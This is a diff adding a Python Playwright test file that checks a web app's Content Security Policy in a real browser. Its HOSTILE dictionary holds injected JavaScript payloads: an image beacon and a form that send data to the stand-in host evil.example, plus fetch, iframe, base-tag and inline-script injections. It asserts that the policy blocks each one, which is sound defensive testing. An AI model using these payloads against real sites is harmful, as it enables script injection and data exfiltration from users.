@@ -1,0 +1,87 @@
+"""The headers in a real browser: nothing that the pages need is refused, and what they do not need is."""
+
+from __future__ import annotations
+
+from typing import get_args
+
+import pytest
+from playwright.sync_api import Browser, expect
+
+from kpi.model.viewer import Role
+from tests.conftest import Served
+from tests.pages.browsing import LATER, SOON, Reader, reader
+from tests.pages.running import ALLOWED, EXAMPLE
+
+WATCH = """window.directives = [];
+           document.addEventListener('securitypolicyviolation', told => {
+               window.directives.push(told.effectiveDirective);
+               refused(`${told.effectiveDirective} ${told.blockedURI} ${told.sourceFile}`);
+           })"""
+
+
+def _watched(browser: Browser, url: str) -> tuple[Reader, list[str]]:
+    """A reader, and what its browser's policy refuses."""
+    reading, refused = reader(browser, url), list[str]()
+    reading.page.expose_function("refused", lambda told: refused.append(told))
+    reading.page.add_init_script(WATCH)
+    return reading, refused
+
+
+@pytest.mark.parametrize("role", get_args(Role))
+def test_every_page_of_every_role_does_without_what_the_policy_refuses(
+    browser: Browser, served: Served, role: Role
+) -> None:
+    reading, refused = _watched(browser, served.url)
+    reading.sign_in(role)
+    pages = [address for other, address in ALLOWED if other == role]
+    assert pages
+    for address in pages:
+        reading.open(address)
+    if role == "enterprise":
+        reading.open("upload")
+        reading.page.set_input_files("input[type=file]", EXAMPLE)
+        expect(reading.page.get_by_text(reading.words("upload.usable", reported=19))).to_be_visible(timeout=LATER)
+    assert [one for one in refused if not one.startswith(DONE_WITHOUT)] == []
+    assert (reading.errors, reading.outside) == ([], [])
+    reading.context.close()
+
+
+# Streamlit's arithmetic of large numbers tries WebAssembly first, and does without where it is refused.
+DONE_WITHOUT = "script-src wasm-eval"
+
+HOSTILE = {
+    "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.done = 1'}))",
+    "script-src": "setTimeout('window.done = 1')",
+    "img-src": "new Image().src = 'http://evil.example/' + document.title",
+    "connect-src": "fetch('http://evil.example/').catch(() => 0); 0",
+    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.example/'})); 0",
+    "form-action": """document.body.append(Object.assign(document.createElement('form'),
+                      {action: 'http://evil.example/', method: 'post', id: 'evil'})); evil.submit()""",
+    "base-uri": "document.head.prepend(Object.assign(document.createElement('base'), {href: 'http://evil.example/'}))",
+}
+
+
+def test_what_a_planted_script_or_address_would_do_is_refused(browser: Browser, served: Served) -> None:
+    reading, refused = _watched(browser, served.url)
+    reading.page.goto(served.url)
+    reading.page.locator("#kpi-account").wait_for(timeout=LATER)
+    for directive, code in HOSTILE.items():
+        reading.page.evaluate(f"() => {{ window.directives = []; {code} }}")
+        reading.page.wait_for_function("() => window.directives.length", timeout=SOON)
+        assert reading.page.evaluate("window.directives") == [directive]
+    assert len([one for one in refused if not one.startswith(DONE_WITHOUT)]) == len(HOSTILE)
+    assert reading.page.evaluate("window.done") is None
+    assert reading.page.url.startswith(served.url)
+    reading.context.close()
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_an_unknown_address_is_told_to_whoever_is_signed_in_too(browser: Browser, served: Served, lang: str) -> None:
+    reading = reader(browser, served.url, "en" if lang == "en" else "zh")
+    reading.sign_in("leader")
+    reading.page.goto(f"{served.url}/no-such-page")
+    expect(reading.page.get_by_text(reading.words("refused.path"))).to_be_visible()
+    assert not reading.page.get_by_text("Page not found").count()
+    reading.page.get_by_role("link", name=reading.words("refused.home")).click()
+    expect(reading.page.locator(".kpi-quiet")).to_be_visible(timeout=LATER)
+    reading.context.close()
